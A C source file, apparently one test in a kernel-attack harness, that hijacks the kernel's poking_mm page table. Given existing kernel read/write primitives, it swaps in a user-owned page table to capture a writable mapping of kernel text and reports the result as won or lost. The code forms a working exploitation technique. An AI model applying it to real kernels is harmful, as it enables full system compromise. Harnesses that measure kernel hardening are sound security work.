// SPDX-License-Identifier: GPL-2.0-only
/*
 * poking_mm, in which the kernel maps its own text writable while it patches
 * it: its page table is replaced by one in the attacker's memory.
 */
#include <stddef.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"

#define POLL_ROUNDS	400000	/* between two looks at the clock */
#define PATIENCE	30	/* seconds */
#define SETTLE		300000	/* microseconds, until freed programs are erased */

static int walk_poking_mm(uint64_t addr, int level, struct slot *slot)
{
	int err = corrupt_command("walk addr=0x%lx level=%d name=%s", addr, level, PATCH_MM);

	slot->slot = corrupt_answer("slot");
	slot->value = corrupt_answer("value");
	slot->level = corrupt_answer("level");
	return err;
}

/* The kernel's entry is there for microseconds only. */
static uint64_t wait_for_entry(volatile uint64_t *entry)
{
	time_t end = time(NULL) + PATIENCE;
	uint64_t seen;
	int i;

	do {
		for (i = 0; i < POLL_ROUNDS; i++) {
			seen = *entry;
			if (seen)
				return seen;
		}
	} while (time(NULL) < end);
	return 0;
}

/* Who takes the table away while the kernel pokes through it makes that fault. */
static void wait_for_quiet(volatile uint64_t *entry)
{
	int i;

	usleep(SETTLE);
	for (i = 0; i < 10 && *entry; i++)
		usleep(SETTLE);
}

enum outcome poking_mm(void)
{
	uint64_t addr;
	uint64_t phys, seen, *table, *entry;
	struct slot slot;
	int err;

	if (!ksymbol(PATCH_ADDR))
		return skipped("this kernel patches text in another way");
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU to watch from");
	addr = kread64(ksymbol(PATCH_ADDR));
	if (walk_poking_mm(addr, LEVEL_PMD, &slot) || slot.level != LEVEL_PMD || !slot.value)
		return broken("no page table found in poking_mm");
	phys = user_page((void **)&table);

	err = kwrite64(slot.slot, phys | PTE_TABLE);
	if (err)
		return lost("the page table was not replaced: %d", err);
	helper_patch_text();
	entry = table + addr / PAGE_SIZE % table_entries();
	seen = wait_for_entry(entry);
	helper_stop();
	wait_for_quiet(entry);
	kwrite64(slot.slot, slot.value);
	if (!seen)
		return lost("no entry showed up in the attacker's page table");
	return won("the kernel put its writable mapping of kernel text (PTE 0x%lx) into uid %d's page table",
		   seen, getuid());
}
